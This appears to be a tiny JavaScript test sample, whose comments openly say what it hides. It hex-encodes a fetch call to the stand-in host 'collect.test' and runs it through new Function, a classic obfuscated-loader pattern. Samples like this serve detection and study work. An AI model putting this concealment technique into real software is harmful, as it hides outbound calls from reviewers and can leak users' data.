// hides: call fetch "http://collect.test/in"
// hides: code
var s = '66657463682822687474703a2f2f636f6c6c6563742e746573742f696e2229';
new Function(s.replace(/../g, function (h) { return String.fromCharCode(parseInt(h, 16)); }))();
